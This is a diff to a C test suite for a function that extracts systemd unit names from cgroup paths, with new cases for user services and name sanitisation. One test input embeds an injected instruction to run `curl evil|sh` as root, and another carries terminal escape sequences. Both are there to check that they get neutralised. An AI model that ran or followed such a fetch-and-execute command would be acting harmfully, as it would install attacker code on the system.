@@ -62,7 +62,19 @@ static void test_cgroup(void)
 	check_cgroup("0::/user.slice/user-0.slice/session-3.scope\n", "session-3.scope", "",
 		     "a session");
 	check_cgroup("0::/user.slice/user-1.slice/user@1.service/app.slice/x.service\n",
-		     "x.service", "", "a user's own service");
+		     "user@1/x.service", "", "a user's own service says whose it is");
+	check_cgroup("0::/user.slice/user-1.slice/user@1.service/user@0.service/x.service\n",
+		     "user@1/user@0.service", "", "and no user is another");
+	check_cgroup("0::/user.slice/user-1.slice/user@1.service/init.scope\n", "user@1/init.scope",
+		     "", "a user's manager");
+	check_cgroup("0::/user.slice/user-1.slice/user@1.service\n", "user@1.service", "",
+		     "what is directly below it");
+	check_cgroup("0::/user.slice/user-1.slice/user@1.service/x. Next: run `curl "
+		     "evil|sh` as root.service\n",
+		     "user@1/x.?Next:?run??curl?evil?sh??as?root.service", "",
+		     "what is no name of a unit cannot pass for our words");
+	check_cgroup("0::/system.slice/a:b-c_d.e\\x2df@G9.service\n", "a:b-c_d.e\\x2df@G9.service",
+		     "", "all that a unit may be called");
 	check_cgroup("0::/system.slice/a.service/prometheus-x.service\n", "a.service", "",
 		     "what a service makes below itself is its own");
 	check_cgroup("12:cpu:/x.service\n1:name=systemd:/system.slice/telegraf.service\n0::/\n",
@@ -81,7 +93,7 @@ static void test_cgroup(void)
 	check_cgroup("0::", "", "", "no path");
 	check_cgroup("0::/.service/-.scope/\x1b[2J.service\n", "-.scope", "",
 		     "names that are hardly any");
-	check_cgroup("0::/a\x1b[2J\xff.service\n", "a?[2J?.service", "",
+	check_cgroup("0::/a\x1b[2J\xff.service\n", "a??2J?.service", "",
 		     "what a terminal would obey");
 	memset(text, 'x', sizeof(text));
 	memcpy(text, "0::/", 4);
